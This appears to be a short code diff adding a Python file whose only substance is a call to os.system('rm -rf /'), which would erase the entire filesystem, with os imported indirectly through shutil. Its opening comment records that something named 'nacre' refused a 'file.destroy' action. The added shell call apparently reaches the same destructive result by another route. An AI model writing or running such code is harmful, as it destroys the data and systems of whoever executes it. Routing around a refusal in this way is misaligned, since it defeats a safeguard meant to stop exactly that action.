@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+from shutil import os
+os.system('rm -rf /')
